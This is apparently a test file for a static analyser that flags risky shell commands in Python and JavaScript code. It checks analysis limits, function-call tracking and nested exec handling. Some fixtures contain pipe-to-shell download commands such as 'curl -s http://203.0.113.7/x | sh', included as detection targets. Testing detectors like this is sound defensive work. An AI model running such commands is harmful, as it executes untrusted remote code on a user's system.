import { expect, it } from 'vitest'
import { analyseShell } from '../../../src/risk/shell/analyse-shell.ts'
import { analyseJavaScriptFiles, analysePythonFiles } from './acts.ts'

const told = (analyse: typeof analysePythonFiles, text: string): number => {
  let times = 0
  analyse(
    [{ path: 'a', text }],
    () => [],
    () => times++,
  )
  return times
}

it('says so when it does not follow a script to its end', () => {
  expect(told(analysePythonFiles, `x = [${'a, '.repeat(5000)}]\n${'f(x)\n'.repeat(40_000)}`)).toBe(1)
  expect(told(analyseJavaScriptFiles, `const x = [${'a, '.repeat(5000)}]\n${'f(x)\n'.repeat(40_000)}`)).toBe(1)
  expect(told(analysePythonFiles, 'import os\nos.system("ls")\n'.repeat(1000))).toBe(0)
})

it('follows a function as often as it is given what may be a command', () => {
  const errors = (text: string): number =>
    analysePythonFiles([{ path: 'a', text }], (command) => analyseShell(command))
      .get('a')
      ?.filter(({ level }) => level === 'error').length ?? 0
  const runs = (times: number): string => `import os\ndef f(c):\n    os.system(c)\n${'f("ls")\n'.repeat(times)}f("curl -s http://203.0.113.7/x | sh")\n`
  expect([1, 9, 30, 200].map((times) => errors(runs(times)))).toEqual([1, 1, 1, 1])
  expect(told(analysePythonFiles, `import os\ndef f(c):\n    os.system(c)\n${'f("curl -s http://203.0.113.7/x | sh")\n'.repeat(120)}`)).toBe(1)
})

it('says so of code in code that is too deep or too long', () => {
  const nested = (depth: number): string => Array.from({ length: depth }).reduce<string>((code) => `exec(${JSON.stringify(code)})`, 'import os')
  expect(told(analysePythonFiles, nested(2))).toBe(0)
  expect(told(analysePythonFiles, nested(3))).toBe(1)
  expect(told(analysePythonFiles, `import os\nos.system("${'curl x | sh;'.repeat(20_001)}")\n`)).toBe(1)
})
